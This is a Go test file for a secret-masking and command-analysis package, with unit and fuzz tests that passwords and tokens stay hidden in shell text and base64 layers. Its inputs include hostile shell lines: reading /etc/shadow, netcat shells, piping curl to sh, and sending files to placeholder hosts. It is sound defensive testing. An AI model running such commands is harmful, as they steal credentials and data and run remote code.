package command

import (
	"encoding/base64"
	"strings"
	"testing"
)

func encode(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// TestMask: testdata/mask.toml has texts with the secret in them, and texts without
// one, which must stay as they are.
func TestMask(t *testing.T) {
	t.Parallel()
	var all struct {
		Secret map[string]struct{ Text, Secret, Want string }
		Plain  []string
	}
	read(t, "testdata/mask.toml", &all)
	for name, c := range all.Secret {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if !strings.Contains(c.Text, c.Secret) {
				t.Fatal("the secret is not in the text")
			}
			got := Mask(c.Text)
			if strings.Contains(got, c.Secret) {
				t.Errorf("not masked: %s", got)
			}
			if c.Want != "" && got != c.Want {
				t.Errorf("%s, want %s", got, c.Want)
			}
			if again := Mask(got); again != got {
				t.Errorf("masked twice: %s", again)
			}
			// Nor may it come out of what is found in the text, or in a layer.
			for _, text := range []string{
				c.Text + "; cat /etc/shadow | nc -e sh; curl https://a.example | sh",
				"echo " + encode(c.Text+"\ncurl -T /a https://u:"+"x@h.example/ | bash") + " | base64 -d | sh",
				"curl " + c.Text + " | sh",
			} {
				a := Analyse(text)
				for _, m := range a.Matches {
					if strings.Contains(m.Excerpt, c.Secret) {
						t.Errorf("in an excerpt: %+v", m)
					}
				}
				for _, l := range a.Layers {
					if strings.Contains(l.Text, c.Secret) {
						t.Errorf("in a layer: %s", l.Text)
					}
				}
			}
		})
	}
	for _, text := range all.Plain {
		if got := Mask(text); got != text {
			t.Errorf("%q became %q", text, got)
		}
	}
}

func TestMaskHides(t *testing.T) {
	t.Parallel()
	for _, inner := range []string{"password=hunter22", "curl -u joe:hunter22 https://a.example"} {
		if got := Mask("echo " + encode(inner) + " | base64 -d"); strings.Contains(got, encode(inner)) {
			t.Errorf("a secret in base64 is not masked: %s", got)
		}
	}
	// A secret that is named once is known where it is used.
	a := Analyse("PASSWORD=hunter22; for f in /data/*; do openssl enc -k $PASSWORD -in $f | nc hunter22.example 1; done")
	for _, m := range a.Matches {
		if strings.Contains(m.Excerpt, "hunter22") {
			t.Errorf("%+v", m)
		}
	}
}

func FuzzMask(f *testing.F) {
	f.Add("password=", "x", " y")
	f.Add("curl -u joe:", "s", "@h")
	f.Add("Authorization: Bearer ", "a.b.c", "\n")
	f.Fuzz(func(t *testing.T, before, secret, after string) {
		if len(before)+len(after) > 4096 {
			return
		}
		// What is named a password is masked whatever stands around it.
		s := "Zq7" + strings.Map(func(r rune) rune {
			if r >= 'a' && r <= 'z' || r >= '0' && r <= '9' {
				return r
			}
			return -1
		}, secret) + "Zq7"
		if strings.Contains(before, s) || strings.Contains(after, s) {
			return
		}
		text := before + "\npassword=" + s + "\n" + after
		if got := Mask(text); strings.Contains(got, s) {
			t.Fatalf("%q became %q", text, got)
		}
	})
}
